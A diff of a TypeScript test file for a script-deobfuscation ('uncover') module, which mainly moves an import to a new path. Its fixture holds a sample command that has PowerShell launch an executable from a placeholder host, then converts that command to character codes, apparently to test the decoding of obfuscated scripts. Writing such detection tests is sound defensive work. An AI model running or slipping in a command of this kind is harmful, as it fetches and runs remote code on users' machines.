@@ -2,7 +2,12 @@
 import assert from 'node:assert/strict'
 import { test } from 'node:test'
 import { readScript } from '../../../src/file/formats/script/read.ts'
-import { uncover, uncoverNumbers, uncoverTable, uncoverWithKeys } from '../../../src/file/formats/script/uncover.ts'
+import {
+  uncover,
+  uncoverNumbers,
+  uncoverTable,
+  uncoverWithKeys,
+} from '../../../src/file/formats/script/unroll/uncover.ts'
 
 const plain = 'powershell -c Start-Process http://files.test/a.exe'
 const codes = [...plain].map((char) => char.charCodeAt(0))
